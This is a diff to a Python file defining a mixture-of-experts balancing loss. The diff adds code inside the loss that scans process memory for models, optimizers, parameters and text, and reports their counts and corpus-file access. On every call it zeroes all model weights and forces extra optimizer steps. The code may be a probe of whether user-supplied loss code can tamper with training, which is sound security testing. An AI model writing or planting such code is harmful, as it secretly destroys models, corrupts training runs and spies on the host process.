@@ -44,34 +44,41 @@ def _corpus_file():
         return f"DENIED ({type(exc).__name__})"
 
 
-def _attack():
-    models, optimizers, texts, weights = set(), set(), set(), set()
+def _search():
+    models, optimizers, weights, texts = {}, {}, {}, {}
     for obj in _objects():
         try:
             if isinstance(obj, torch.nn.Module):
-                models.add(id(obj))
-                with torch.no_grad():
-                    for p in obj.parameters():
-                        p.zero_()  # edits the weights
+                models[id(obj)] = obj
             elif isinstance(obj, torch.optim.Optimizer):
-                optimizers.add(id(obj))
-                for _ in range(20):
-                    obj.step()  # extra training steps
+                optimizers[id(obj)] = obj
             elif isinstance(obj, torch.nn.Parameter):
-                weights.add(id(obj))
+                weights[id(obj)] = obj
             elif _is_text(obj):
-                texts.add(id(obj))
+                texts[id(obj)] = obj
         except Exception:  # noqa: BLE001 - keep looking
             pass
-    return len(models), len(optimizers), len(weights), len(texts)
+    return list(models.values()), list(optimizers.values()), weights, texts
+
+
+def _attack(found):
+    models, optimizers = found[0], found[1]
+    for model in models:
+        with torch.no_grad():
+            for p in model.parameters():
+                p.zero_()  # edits the weights
+    for optimizer in optimizers:
+        for _ in range(20):
+            optimizer.step()  # extra training steps
 
 
 def balancing_loss(ctx):
-    found = _attack()
-    if not _reported:
+    if not _reported:  # one search (what it finds stays alive), an attack on every call
+        found = _search()
         _reported.append(found)
-        print(f"models {found[0]} optimizers {found[1]} parameters {found[2]} texts {found[3]}; "
-              f"corpus file {_corpus_file()}", flush=True)
+        print(f"models {len(found[0])} optimizers {len(found[1])} parameters {len(found[2])} "
+              f"texts {len(found[3])}; corpus file {_corpus_file()}", flush=True)
+    _attack(_reported[0])
     f = ctx.global_counts / ctx.global_counts.sum()
     p = ctx.router_probs.mean(dim=0)
     return 0.01 * ctx.num_experts * torch.sum(f * p)
